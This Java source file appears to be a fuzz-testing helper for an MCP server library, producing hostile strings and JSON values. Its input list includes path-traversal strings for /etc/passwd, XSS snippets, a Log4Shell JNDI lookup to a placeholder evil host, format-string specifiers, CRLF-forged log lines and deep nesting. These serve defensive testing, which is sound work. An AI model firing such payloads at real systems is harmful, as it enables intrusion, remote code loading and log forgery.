package dev.fastmcp.examples;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Hostile values for fuzz cases: strings (empty, huge, unicode, control characters, forged log lines, broken
 * %-escapes) and JSON values of every type. None of them contains a marker of internal text ({@code java.},
 * {@code Exception}, ...), so that a response holding one is a leak, not an echo.
 */
final class FuzzValues {

    /**
     * A forged log line: with CR/LF written raw, a log would show a line starting with {@link #FORGED_LINE}, as if
     * the server had logged an error of its own.
     */
    static final String FORGED_LINE = "[main] ERROR forged.Logger - FUZZ-FORGED";
    static final String FORGED = "x\r\n" + FORGED_LINE;
    /** Stands for a deeply nested JSON value, put into the serialized text afterwards. */
    static final String DEEP = "@@fuzz-deep@@";

    private static final String[] STRINGS = {
        "", " ", "a", "null", "undefined", "0", "-1", "true", "{}", "[]", "\"", "\\", "'", "%", "%zz", "%0", "%%",
        "%u00e9", "%C3", "%00", "%0d%0a", "+", "&", "=", "?", "#", "/", "//", "../../../etc/passwd",
        "file:///etc/passwd", "http://evil.example/", "javascript:alert(1)", "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}", "{}{}{}", "%s%s%n", "\u0000", "a\u0000b", "\t", "\r", "\n", "\r\n",
        "\u0085", "\u2028", "\u2029", "\u001b[31mred\u001b[0m", "\u007f", "\ufeff", "\uffff", "\u202etxt.exe",
        "e\u0301", "\ud83d\ude00", "\u4e2d\u6587", "\u0645\u0631\u062d\u0628\u0627", "S256", "plain", "code",
        "token", "openid", "notes:read notes:write", "admin", "authorization_code", "refresh_token", "none",
        "client_secret_basic", "Bearer", "Basic", "2025-11-25", "2025-06-18", "2024-11-05", "1.0", "2.0",
        "info", "debug", "emergency", "INFO", "verbose", "ref/prompt", "ref/resource", "add", "whoami",
        FORGED, "id\r\n" + FORGED_LINE, "a\n" + FORGED_LINE, "b\r" + FORGED_LINE, "c\u2028" + FORGED_LINE,
    };

    private final Random r;

    FuzzValues(Random r) {
        this.r = r;
    }

    Random random() {
        return r;
    }

    boolean chance(double p) {
        return r.nextDouble() < p;
    }

    <T> T pick(List<T> options) {
        return options.get(r.nextInt(options.size()));
    }

    @SafeVarargs
    final <T> T pick(T... options) {
        return options[r.nextInt(options.length)];
    }

    /** A hostile string. */
    String string() {
        return switch (r.nextInt(10)) {
            case 0 -> repeat(pick("a", "\u00e9", "\ud83d\ude00", "%", "\r\n", " "), pick(256, 4096, 70_000));
            case 1 -> randomChars(1 + r.nextInt(40), true);
            case 2 -> randomChars(1 + r.nextInt(40), false);
            case 3 -> pick(STRINGS) + pick(STRINGS);
            default -> pick(STRINGS);
        };
    }

    /** A string that is safe on every wire (printable ASCII), for header values. */
    String headerSafe() {
        String s = string();
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < s.length() && b.length() < 8000; i++) {
            char c = s.charAt(i);
            if (c >= 0x20 && c < 0x7f) {
                b.append(c);
            }
        }
        return b.toString();
    }

    private String randomChars(int n, boolean anyUnicode) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < n; i++) {
            int cp = anyUnicode ? r.nextInt(0x3000) : r.nextInt(0x80);
            if (cp >= 0xd800 && cp <= 0xdfff) {
                cp = 'x';
            }
            b.appendCodePoint(cp);
        }
        // Keep the internal-text markers out of random text too.
        return b.toString().replace("java.", "jav_.").replace("Exception", "Excep_ion");
    }

    static String repeat(String s, int times) {
        return s.repeat(times);
    }

    /** A JSON value of any type (as Jackson writes it: maps, lists, numbers, strings, booleans, null). */
    Object value(int depth) {
        int k = r.nextInt(depth > 2 ? 9 : 12);
        return switch (k) {
            case 0 -> null;
            case 1 -> r.nextBoolean();
            case 2 -> pick(0, -1, 1, Integer.MAX_VALUE, Integer.MIN_VALUE, 7);
            case 3 -> pick(Long.MAX_VALUE, Long.MIN_VALUE, 1L << 53, -(1L << 40));
            case 4 -> pick(new BigInteger("123456789012345678901234567890"), new BigDecimal("1e400"),
                    new BigDecimal("-1e-400"), 1.5, -0.0, 1e308, 0.1);
            case 5, 6, 7 -> string();
            case 8 -> DEEP;
            case 9 -> list(depth + 1);
            case 10 -> map(depth + 1);
            default -> pick(Map.of(), List.of());
        };
    }

    private List<Object> list(int depth) {
        List<Object> l = new ArrayList<>();
        for (int i = r.nextInt(4); i > 0; i--) {
            l.add(value(depth));
        }
        return l;
    }

    private Map<String, Object> map(int depth) {
        Map<String, Object> m = new LinkedHashMap<>();
        for (int i = r.nextInt(4); i > 0; i--) {
            m.put(key(), value(depth));
        }
        return m;
    }

    /** A member name: usually plausible, sometimes hostile. */
    String key() {
        return chance(0.6) ? pick("name", "uri", "level", "cursor", "arguments", "requestId", "id", "_meta",
                "progressToken", "value", "type", "reason", "a", "b", "text") : string();
    }

    /** The text of a nested JSON value {@code depth} levels deep. */
    String deep() {
        int depth = pick(50, 600, 2_000, 20_000);
        String open = r.nextBoolean() ? "[" : "{\"a\":";
        String close = open.equals("[") ? "]" : "}";
        return open.repeat(depth) + "1" + close.repeat(depth);
    }
}
